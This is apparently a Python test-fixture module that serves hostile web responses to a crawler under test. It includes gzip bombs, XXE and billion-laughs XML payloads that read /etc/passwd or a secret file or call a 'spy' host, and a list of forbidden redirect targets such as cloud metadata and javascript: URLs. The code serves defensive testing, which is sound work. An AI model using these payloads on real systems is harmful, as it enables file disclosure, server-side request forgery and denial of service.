"""Hostile web hosts: farm routes for the ways real servers and pages misbehave.

Each builder returns a route (or a dict of routes) for a `tests.farm.Host`,
so the hostile-web tests, the offline demo and the benchmarks can put the same
misbehaviour behind a loopback outlet. `outlet_routes` is the well-behaved
outlet a misbehaviour is dropped into: robots.txt names its feed and news
sitemap, both list the given articles, and every article is a real page.

Nothing here holds a huge body in memory: 200 MB responses are streamed from
one small chunk, and gzip bombs are built from one repeated deflate block.
"""

from __future__ import annotations

import email.utils
import functools
import gzip
import ipaddress
import itertools
import struct
import threading
import zlib
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from typing import Iterable
from xml.sax.saxutils import escape

from testing import replica
from testing.farm import Farm, Handler, Host, Reply, Route, redirect, sequence

FEED_PATH = "/feed/"  # also the first common path discovery tries
SITEMAP_PATH = "/news_sitemap.xml"
ARTICLE_PREFIX = "/news/"
MIB = 1024 * 1024
GIB = 1024 * MIB
RSS_TYPE = "application/rss+xml"
XML_TYPE = "application/xml"


# -- hosts ---------------------------------------------------------------------------

# Hostile hosts live in 127.1.0.0/16, apart from farm.add()'s 127.0.0.N, so
# a suite with many cases never runs out of addresses on either side.
_HOSTILE_BASE = ipaddress.IPv4Address("127.1.0.0")
_next_hostile = (n for n in itertools.count(1) if n % 256 not in (0, 255))


def add_host(farm: Farm, routes: dict[str, Route] | None = None) -> Host:
    """Return a new host of the farm on its own 127.1.x.y address."""
    host = Host(routes, address=str(_HOSTILE_BASE + next(_next_hostile)))
    farm.hosts.append(host)
    return host


def close_all(farm: Farm) -> None:
    """Close every host of the farm at once: each waits up to half a second for its server loop."""
    closers = [threading.Thread(target=host.close) for host in farm.hosts]
    for closer in closers:
        closer.start()
    for closer in closers:
        closer.join()


# -- a well-behaved outlet ------------------------------------------------------

def rss(items: Iterable[tuple[str, datetime | None]], title: str = "Replica") -> bytes:
    """Return an RSS 2.0 feed listing (address, publication date or None)."""
    parts = []
    for url, when in items:
        date = f"<pubDate>{email.utils.format_datetime(when)}</pubDate>" if when else ""
        parts.append(f"<item><title>{escape(title)}</title><link>{escape(url)}</link>{date}</item>")
    return ('<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0"><channel>'
            f"<title>{escape(title)}</title><link>http://replica/</link><description>d</description>"
            + "".join(parts) + "</channel></rss>").encode()


def robots_txt(host: Host, sitemaps: Iterable[str] = (), disallow: str = "") -> bytes:
    """Return a robots.txt for everyone that names the given sitemap paths of host."""
    lines = ["User-agent: *", f"Disallow: {disallow}"]
    lines += [f"Sitemap: {host.url(path)}" for path in sitemaps]
    return ("\n".join(lines) + "\n").encode()


def outlet_routes(host: Host, now: datetime, articles: Iterable[str] = ("/news/1",), *,
                  listed_first: Iterable[str] = (), disallow: str = "",
                  page: bytes | None = None) -> dict[str, Route]:
    """Return the routes of a quiet outlet whose feed and news sitemap list `articles`.

    `listed_first` paths are named in robots.txt before the feed and the
    sitemap, so discovery tries a hostile listing first and still completes
    with two more requests instead of a walk through the common paths.
    """
    urls = [(host.url(path), now - timedelta(hours=1 + i)) for i, path in enumerate(articles)]
    robots = robots_txt(host, [*listed_first, FEED_PATH, SITEMAP_PATH], disallow)
    return {
        "/robots.txt": Reply(200, robots, content_type="text/plain"),
        "/": Reply(200, replica.homepage(FEED_PATH)),
        FEED_PATH: Reply(200, rss(urls), content_type=RSS_TYPE),
        SITEMAP_PATH: Reply(200, replica.news_sitemap(urls), content_type=XML_TYPE),
        ARTICLE_PREFIX + "*": replica.article_route(page or replica.article_page(), host.base),
    }


# -- status codes and broken connections ----------------------------------------

def failing_then(statuses: Iterable[int], final: Reply) -> Route:
    """Return a route that answers each status in turn, then `final` for good."""
    return sequence([Reply(status, b"error", content_type="text/plain") for status in statuses] + [final])


def truncated_gzip(body: bytes, cut: int = 20) -> Reply:
    """Return a reply whose gzip Content-Encoding is cut short, its Content-Length honest."""
    return Reply(200, gzip.compress(body)[:-cut], {"Content-Encoding": "gzip"})


@dataclass
class Firehose:
    """A route that streams a huge body from one small chunk and notes how far it got.

    `sent` counts bytes the server handed to the socket; `closed_by_client`
    turns True when a write failed because the client hung up; `done` is set
    when the handler returns, so a test can wait for the server to stop.
    """

    total: int
    content_type: str = "text/html"
    chunk: bytes = b"a" * 65536
    sent: int = 0
    closed_by_client: bool = False
    done: threading.Event = field(default_factory=threading.Event)

    def __call__(self, handler: Handler) -> None:
        handler.send_response(200)
        handler.send_header("Content-Type", self.content_type)
        handler.send_header("Content-Length", str(self.total))
        handler.end_headers()
        try:
            while self.sent < self.total:
                piece = self.chunk[: self.total - self.sent]
                handler.wfile.write(piece)
                self.sent += len(piece)
        except OSError:
            self.closed_by_client = True
        finally:
            handler.close_connection = True
            self.done.set()


# -- gzip bombs -------------------------------------------------------------------

@functools.lru_cache(maxsize=4)
def gzip_bomb(inflated: int = GIB) -> bytes:
    """Return a valid gzip file of about inflated/1000 bytes that inflates to `inflated` zero bytes.

    One MiB of zeros is deflated once and its block repeated: a full flush
    makes each block independent of what came before, so the repetition is a
    valid stream without ever holding the inflated bytes.
    """
    assert inflated % MIB == 0, "built from whole MiB blocks"
    deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
    zeros = bytes(MIB)
    block = deflater.compress(zeros) + deflater.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _ in range(inflated // MIB):
        crc = zlib.crc32(zeros, crc)
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    final_block = b"\x03\x00"  # an empty last block ends the deflate stream
    trailer = struct.pack("<II", crc, inflated & 0xFFFFFFFF)
    return header + block * (inflated // MIB) + final_block + trailer


@functools.lru_cache(maxsize=4)
def double_gzip_bomb(inflated: int = GIB) -> bytes:
    """Return a gzip of gzip_bomb(inflated): a few KB that inflate twice to `inflated` bytes."""
    return gzip.compress(gzip_bomb(inflated), compresslevel=9)


def bomb_reply(body: bytes, *, content_encoding: bool, content_type: str = "text/html") -> Reply:
    """Return a reply carrying a bomb, as Content-Encoding or as the file itself."""
    headers = {"Content-Encoding": "gzip"} if content_encoding else {}
    return Reply(200, body, headers, content_type=content_type)


# -- XML attacks ------------------------------------------------------------------

_FEED_ITEM = "<item><title>{title}</title><link>{link}</link></item>"
# Dated the day of replica.FEED_SNAPSHOT_TIME, so a sitemap that is (safely) read validates.
_SITEMAP_URL = "<url><loc>{link}</loc><lastmod>2026-08-13</lastmod></url>"


def _feed(prolog: str, title: str, link: str) -> bytes:
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n{prolog}\n'
            '<rss version="2.0" xmlns:xi="http://www.w3.org/2001/XInclude"><channel>'
            f"<title>{title}</title><link>http://replica/</link><description>d</description>"
            + _FEED_ITEM.format(title=title, link=link) * 3 + "</channel></rss>").encode()


def _sitemap(prolog: str, title: str, link: str) -> bytes:
    del title  # a sitemap has no title; the entity goes into <loc>
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n{prolog}\n'
            '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" '
            'xmlns:xi="http://www.w3.org/2001/XInclude">'
            + _SITEMAP_URL.format(link=link) * 3 + "</urlset>").encode()


BILLION_LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">'
                  + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";" if i > 1 else "&lol;") * 10}">'
                            for i in range(1, 10))
                  + "]>")


def xml_attacks(kind: str, secret_file: str, spy: Host, article: str) -> dict[str, tuple[bytes, bool]]:
    """Return hostile listings of `kind` ('feed' or 'sitemap'): name -> (body, must be refused unread).

    Every attack, if it worked, would put the contents of `secret_file` or a
    request to `spy` into the record, or expand text without bound. Those
    with an internal DTD subset are refused before any parser sees them;
    the others are well-formed enough to read, so the parser must read them
    without loading the DTD or resolving what it names. `article` is the
    page address the entries name.
    """
    build = _feed if kind == "feed" else _sitemap
    secret = f"file://{secret_file}"
    dtd = spy.url("/evil.dtd")
    refused = {
        "billion_laughs": (BILLION_LAUGHS, "&lol9;", article + "?x=&lol9;"),
        "external_file_entity": (f'<!DOCTYPE r [<!ENTITY xxe SYSTEM "{secret}">]>', "&xxe;", article + "?x=&xxe;"),
        "etc_passwd_entity": ('<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;", article + "?x=&xxe;"),
        "external_http_entity": (f'<!DOCTYPE r [<!ENTITY xxe SYSTEM "{spy.url("/xxe")}">]>', "&xxe;", article + "?x=&xxe;"),
        "parameter_entity": (f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{dtd}"> %p;]>', "t", article),
        "quoted_bracket_doctype": (f'<!DOCTYPE r SYSTEM "a[b>c" [<!ENTITY xxe SYSTEM "{secret}">]>', "&xxe;", article),
        "lowercase_doctype": (f'<!doctype r [<!ENTITY xxe SYSTEM "{secret}">]>', "&xxe;", article),
        "entity_before_root": (f'<!ENTITY xxe SYSTEM "{secret}">', "&xxe;", article),
    }
    read = {
        "external_dtd": (f'<!DOCTYPE r SYSTEM "{dtd}">', "&xxe;", article),
        "public_dtd": (f'<!DOCTYPE r PUBLIC "-//X//Evil//EN" "{secret}">', "&xxe;", article),
        "xinclude": ("", "t", f'{article}<xi:include href="{secret}" parse="text"/>'),
    }
    listings = {name: (build(*parts), True) for name, parts in refused.items()}
    listings |= {name: (build(*parts), False) for name, parts in read.items()}
    utf16 = build(BILLION_LAUGHS, "&lol9;", article).decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
    listings["utf16_billion_laughs"] = (utf16.encode("utf-16"), True)
    return listings


# -- sitemap indexes --------------------------------------------------------------

def sitemap_index(children: Iterable[str]) -> bytes:
    """Return a sitemap index naming the given child addresses, undated, in order."""
    items = "".join(f"<sitemap><loc>{escape(url)}</loc></sitemap>" for url in children)
    return ('<?xml version="1.0" encoding="UTF-8"?>\n'
            f'<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{items}</sitemapindex>').encode()


def nested_indexes(host: Host, depth: int, leaf: bytes, prefix: str = "/idx/") -> dict[str, Route]:
    """Return routes of a chain of `depth` indexes, each naming the next, the last naming a leaf sitemap."""
    routes: dict[str, Route] = {}
    for level in range(depth):
        routes[f"{prefix}{level}.xml"] = Reply(200, sitemap_index([host.url(f"{prefix}{level + 1}.xml")]),
                                               content_type=XML_TYPE)
    routes[f"{prefix}{depth}.xml"] = Reply(200, leaf, content_type=XML_TYPE)
    return routes


def wide_index(host: Host, children: int, prefix: str = "/sm/") -> bytes:
    """Return a sitemap index naming `children` child sitemaps of host under prefix."""
    base = host.url(prefix)
    return sitemap_index(f"{base}{i}.xml" for i in range(children))


# -- redirects --------------------------------------------------------------------

def redirect_chain(start: str, hops: int, final: Route, prefix: str = "/hop/") -> dict[str, Route]:
    """Return routes where `start` redirects through `hops` addresses before reaching `final`."""
    routes: dict[str, Route] = {start: redirect(f"{prefix}1")}
    for i in range(1, hops):
        routes[f"{prefix}{i}"] = redirect(f"{prefix}{i + 1}")
    routes[f"{prefix}{hops}"] = final
    return routes


def growing_redirect(handler: Handler) -> Reply:
    """Redirect every address to itself plus "/a/b": a spider trap made of redirects."""
    path = handler.path.split("?")[0].rstrip("/")
    return redirect(f"{path}/a/b")


# A redirect to each of these must be refused by the fetcher without being sent.
FORBIDDEN_TARGETS = {
    "file": ("file:///etc/passwd", "invalid_url"),
    "ftp": ("ftp://127.0.0.1/pub/x", "invalid_url"),
    "javascript": ("javascript:alert(document.cookie)", "invalid_url"),
    "data": ("data:text/html,<h1>x</h1>", "invalid_url"),
    "private_10": ("http://10.20.30.40/admin", "blocked_address"),
    "private_192": ("http://192.168.1.1/", "blocked_address"),
    "link_local_metadata": ("http://169.254.169.254/latest/meta-data/", "blocked_address"),
}


# -- spider traps -----------------------------------------------------------------

def trap_path(repeats: int = 6, segments: tuple[str, ...] = ("a", "b")) -> str:
    """Return an /a/b/a/b/... article path, the shape relative links loop into."""
    return ARTICLE_PREFIX + "/".join(segments * repeats) + "/"


def long_path(length: int = 10_000) -> str:
    """Return an article path of `length` characters."""
    return ARTICLE_PREFIX + "x" * (length - len(ARTICLE_PREFIX))


# -- encodings --------------------------------------------------------------------

_PAGE = ('<!doctype html><html><head><meta charset="{meta}"><title>{title}</title></head>'
         "<body><article><h1>{title}</h1>{paragraphs}</article></body></html>")


def page(title: str, paragraph: str, meta: str = "utf-8", count: int = 8) -> str:
    """Return a simple article page as text, its paragraph repeated so extraction keeps it."""
    return _PAGE.format(meta=meta, title=title, paragraphs=f"<p>{paragraph}</p>" * count)


def cp1252_declared_utf8() -> Reply:
    """Return a page declared UTF-8 (header and meta) whose bytes are Windows-1252."""
    text = page("Caf\u00e9 \u201cquoted\u201d", "Na\u00efve r\u00e9sum\u00e9s \u2014 caf\u00e9 cr\u00e8me, "
                "the \u201csmart\u201d quotes that Windows writes. " * 3)
    return Reply(200, text.encode("cp1252"), content_type="text/html; charset=utf-8")


def invalid_utf8() -> Reply:
    """Return a Bangla page whose UTF-8 has a few bytes that can never occur in UTF-8."""
    body = page("খবর শিরোনাম", "বাংলাদেশের সংবাদ প্রতিবেদন এখানে লেখা আছে। " * 4).encode()
    cut = body.index("প্রতিবেদন".encode())
    return Reply(200, body[:cut] + b"\xff\xfe\xc0" + body[cut:], content_type="text/html; charset=utf-8")


def nul_bytes() -> Reply:
    """Return a page with NUL bytes inside its markup and text."""
    body = page("Headline", "Text with a NUL here and there. " * 4).encode()
    return Reply(200, body.replace(b"NUL", b"N\x00UL").replace(b"<p>", b"<p>\x00"),
                 content_type="text/html; charset=utf-8")


def pdf_as_html() -> Reply:
    """Return a small PDF served with an HTML content type."""
    pdf = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
           b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")
    return Reply(200, pdf, content_type="text/html; charset=utf-8")


# -- Cloudflare ---------------------------------------------------------------------

CLOUDFLARE = replica.DATA / "cloudflare"
CF_HEADERS = {"Server": "cloudflare", "CF-RAY": "8f00000000000000-DAC"}


def challenge_page(marker: bytes) -> bytes:
    """Return a small challenge-like page carrying one marker."""
    return (b"<!DOCTYPE html><html><head><meta charset=utf-8></head><body><div>"
            + marker + b"</div></body></html>")


def cloudflare_reply(status: int, body: bytes, **extra: str) -> Reply:
    """Return a reply as Cloudflare's edge sends it (Server and CF-RAY, plus extra headers)."""
    return Reply(status, body, {**CF_HEADERS, **extra})


def cloudflare_file(name: str) -> bytes:
    return (CLOUDFLARE / name).read_bytes()


# -- robots.txt ---------------------------------------------------------------------

def robots_reply(body: bytes) -> Reply:
    return Reply(200, body, content_type="text/plain")


def robots_with_bom(host: Host, disallow: str) -> Reply:
    """Return a robots.txt that starts with a UTF-8 byte-order mark."""
    return robots_reply(b"\xef\xbb\xbf" + robots_txt(host, [FEED_PATH, SITEMAP_PATH], disallow))


def robots_sitemap_in_group(host: Host, disallow: str) -> Reply:
    """Return a robots.txt with Sitemap: lines between a group's user-agent and its rules."""
    body = (f"User-agent: *\nSitemap: {host.url(FEED_PATH)}\nDisallow: {disallow}\n"
            f"Sitemap: {host.url(SITEMAP_PATH)}\nAllow: /\n")
    return robots_reply(body.encode())


def robots_huge(host: Host, disallow: str, late_disallow: str, size: int = 2 * MIB) -> Reply:
    """Return a robots.txt of `size` bytes: real rules first, filler, then one rule past 500 KiB."""
    head = robots_txt(host, [FEED_PATH, SITEMAP_PATH], disallow)
    filler_line = b"Disallow: /filler/0123456789/0123456789/0123456789\n"
    tail = f"Disallow: {late_disallow}\n".encode()
    filler = filler_line * ((size - len(head) - len(tail)) // len(filler_line))
    return robots_reply(head + filler + tail)
